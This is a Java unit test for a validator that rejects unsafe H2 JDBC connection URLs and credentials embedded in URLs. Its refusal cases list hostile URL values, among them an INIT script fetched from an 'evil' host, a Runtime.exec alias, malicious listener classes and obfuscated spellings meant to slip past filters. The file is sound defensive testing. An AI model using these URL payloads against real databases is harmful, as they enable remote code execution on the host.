package dev.fluxo.engine.internal.jdbc;

import static dev.fluxo.testkit.TestDatabases.settings;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.fluxo.engine.problem.Code;
import dev.fluxo.engine.problem.FluxoException;
import dev.fluxo.engine.problem.Problem;
import dev.fluxo.engine.problem.Redactor;
import dev.fluxo.testkit.TestDatabases;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UrlCheckTest {
    private static List<Problem> check(String url) {
        return UrlCheck.check(settings("dw", url));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/data/dw",
                "jdbc:h2:file:./target/demo/dw;AUTO_SERVER=TRUE",
                "jdbc:h2:C:/data/dw;MODE=MSSQLServer",
                "jdbc:h2:~/dw",
                "jdbc:h2:mem:dw;db_close_delay=-1",
                "jdbc:h2:tcp://localhost:9092/dw;IFEXISTS=TRUE",
                "jdbc:h2:ssl://host/dw",
                "jdbc:h2:mem:dw;DATABASE_TO_UPPER=FALSE;TIME ZONE=UTC;"
            })
    void letsHarmlessUrlsPass(String url) {
        assertThat(check(url)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:dw;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:dw;init=CREATE ALIAS x FOR 'java.lang.Runtime.exec'",
                "jdbc:h2:mem:dw;MODE=MySQL;iNiT=SELECT 1",
                "jdbc:h2:mem:dw;I\\NIT=SELECT 1",
                "jdbc:h2:mem:dw;MODE=MySQL\\;X;INIT=SELECT 1\\;SELECT 2",
                "jdbc:h2:mem:dw; INIT=SELECT 1",
                "jdbc:h2:mem:dw;\u0131n\u0131t=SELECT 1",
                "jdbc:h2:mem:dw;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:dw;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:h2:mem:dw;JAVA_OBJECT_SERIALIZER='evil.Serializer'",
                "jdbc:h2:mem:dw;AUTHREALM=x",
                "jdbc:h2:mem:dw;DEFAULT_TABLE_ENGINE=evil.Engine",
                "jdbc:h2:mem:dw;IGNORE_UNKNOWN_SETTINGS=TRUE;X=1",
                "jdbc:h2:mem:dw;RECOVER_TEST=x",
                "JDBC:H2:mem:dw;INIT=SELECT 1",
                "jdbc:h2:zip:/tmp/x.zip!/dw",
                "jdbc:h2:classpath:dw",
                "jdbc:h2:nioMapped:/tmp/dw",
                "jdbc:h2:mem:",
                "jdbc:h2:"
            })
    void refusesWhatIsNotKnownToBeHarmless(String url) {
        assertThat(check(url)).singleElement().satisfies(problem -> {
            assertThat(problem.isError()).isTrue();
            assertThat(problem.code()).isEqualTo(Code.URL_UNSAFE);
            assertThat(problem.location()).isEqualTo(TestDatabases.AT);
            assertThat(problem.message()).contains("'dw'");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:dw;USER=sa",
                "jdbc:h2:mem:dw;password=s3cret",
                "jdbc:h2:mem:dw;PASS\\WORD=s3cret",
                "jdbc:h2:mem:dw;MODE=MySQL;PassWord=s3cret"
            })
    void refusesCredentialsInsideTheUrlWithoutRepeatingThem(String url) {
        List<Problem> problems = UrlCheck.check(TestDatabases.withProperties(settings("dw", url), Map.of(), true));
        assertThat(problems).extracting(Problem::code).containsExactly(Code.CREDENTIAL_IN_URL);
        assertThat(problems.toString()).doesNotContain("s3cret");
    }

    @Test
    void holdsPropertiesToTheSameList() {
        assertThat(UrlCheck.check(TestDatabases.withProperties(
                        settings("dw", "jdbc:h2:mem:dw"),
                        Map.of("Init", "SELECT 1", "PASSWORD", "s3cret", "MODE", "MySQL"),
                        false)))
                .extracting(Problem::code)
                .containsExactlyInAnyOrder(Code.URL_UNSAFE, Code.CREDENTIAL_IN_URL);
    }

    @Test
    void leavesTheRiskToTheUserWhoTakesIt() {
        assertThat(UrlCheck.check(TestDatabases.withProperties(
                        settings("dw", "jdbc:h2:mem:dw;INIT=SELECT 1"), Map.of("TRACE_LEVEL_FILE", "0"), true)))
                .isEmpty();
    }

    @Test
    void refusesASetupOfAServer() {
        assertThat(UrlCheck.check(TestDatabases.withSetup(settings("dw", "jdbc:h2:tcp://host/dw"), Path.of("/x.sql"))))
                .extracting(Problem::code)
                .containsExactly(Code.SPEC_BAD_VALUE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:oracle:thin:@host/dw", "http://host", ""})
    void refusesDatabasesThatAreNotKnown(String url) {
        assertThat(check(url)).singleElement().satisfies(problem -> {
            assertThat(problem.code()).isEqualTo(Code.DATABASE_UNSUPPORTED);
            assertThat(problem.isError()).isTrue();
            assertThat(problem.hint()).startsWith("supported: ").contains("h2", "postgresql", "sqlserver");
        });
        try (Databases databases = new Databases(Map.of("dw", () -> settings("dw", url)), new Redactor())) {
            FluxoException refused = catchThrowableOfType(FluxoException.class, () -> databases.get("dw"));
            assertThat(refused.first().code()).isEqualTo(Code.DATABASE_UNSUPPORTED);
        }
    }

    @Test
    void opensNoUnsafeUrl() {
        try (Databases databases = new Databases(
                Map.of("dw", () -> settings("dw", "jdbc:h2:mem:dw;INIT=CREATE TABLE x(a INT)")), new Redactor())) {
            FluxoException refused = catchThrowableOfType(FluxoException.class, () -> databases.get("dw"));
            assertThat(refused.first().code()).isEqualTo(Code.URL_UNSAFE);
        }
    }
}
